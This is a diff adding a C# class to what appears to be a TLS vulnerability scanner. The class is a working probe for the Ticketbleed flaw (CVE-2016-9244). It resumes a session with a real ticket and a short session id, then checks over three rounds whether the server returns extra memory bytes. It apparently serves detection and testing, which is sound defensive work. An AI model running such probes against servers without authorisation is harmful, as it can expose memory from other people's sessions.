@@ -1,0 +1,62 @@
+using System.Collections.Immutable;
+using Sallyport.Observations;
+using Sallyport.Wire.Tls;
+using Sallyport.Wire.Tls.Client;
+
+namespace Sallyport.Probes.Tls.Attacks;
+
+/// <summary>Comes back with a real ticket and a short session id (CVE-2016-9244): who returns more bytes than were sent returns memory.</summary>
+internal sealed class TicketbleedProbe(AttackLine line, AttackHello hello, TlsObservation seen)
+{
+    private const int SessionIdSize = 16;
+    private const int Rounds = 3;
+    private static readonly AttackQuestion Question = new(AttackPurpose.Ticketbleed, AttackForm.ShortSessionId);
+
+    internal async Task<AttackExchange[]> AskAsync()
+    {
+        ImmutableArray<byte> ticket = [];
+        var fetched = await line.EstablishedAsync(Question, Options(), (tls, _) => Task.FromResult(Keep(tls, out ticket)));
+        if (ticket.IsEmpty) return [fetched];
+
+        var first = await ComeBackAsync(ticket, fetched.Suite!.Value, 0);
+        if (first.Outcome is not AttackOutcome.SessionIdReturned { BeginsAsSent: true } returned || returned.Returned <= returned.Sent) return [first];
+
+        return [first, .. await Task.WhenAll(Enumerable.Range(1, Rounds - 1).Select(round => ComeBackAsync(ticket, fetched.Suite!.Value, round)))];
+    }
+
+    /// <summary>What needs no connection: a server that gave no ticket when it was asked for one.</summary>
+    internal AttackExchange? Known() =>
+        seen.Handshakes.Any(IsOld) && seen.Handshakes.Where(IsOld).All(handshake => handshake.Tickets.IsEmpty)
+            ? new AttackExchange { Purpose = Question.Purpose, Form = Question.Form, Round = 0, SentAt = TimeSpan.Zero, Outcome = new AttackOutcome.NotPossible("no session ticket was given") }
+            : null;
+
+    private static bool IsOld(HandshakeObservation handshake) => handshake.IsComplete && handshake.Version <= ProtocolVersion.Tls12;
+
+    private TlsClientOptions Options() => new() { ServerName = hello.ServerName, Versions = [hello.Version] };
+
+    private static AttackOutcome Keep(EstablishedTls tls, out ImmutableArray<byte> ticket)
+    {
+        ticket = TicketIn(tls.Facts.ServerMessages.AsSpan());
+        return ticket.IsEmpty ? new AttackOutcome.NotPossible("no session ticket was given") : new AttackOutcome.NotReached("the ticket was not used");
+    }
+
+    private static ImmutableArray<byte> TicketIn(ReadOnlySpan<byte> messages)
+    {
+        while (HandshakeMessage.Read(messages) is { IsOk: true } message)
+        {
+            if (message.Value.Type == HandshakeType.NewSessionTicket) return NewSessionTicketView.ReadTls12(message.Value.Body) is { IsOk: true } ticket ? [.. ticket.Value.Ticket] : [];
+
+            messages = messages[message.Consumed..];
+        }
+
+        return [];
+    }
+
+    private Task<AttackExchange> ComeBackAsync(ImmutableArray<byte> ticket, CipherSuite suite, int round)
+    {
+        var sessionId = Randomness.Bytes(SessionIdSize);
+        var back = hello with { Suites = [suite], SessionId = sessionId, More = [HelloExtension.SessionTicket(ticket.AsSpan())] };
+        return line.PlainAsync(Question with { Round = round }, back, HandshakeType.ServerHello, (handshake, _) => Task.FromResult<AttackOutcome>(new AttackOutcome.SessionIdReturned(
+            SessionIdSize, handshake.SessionId.Length, handshake.SessionId.AsSpan().StartsWith(sessionId.AsSpan()))));
+    }
+}
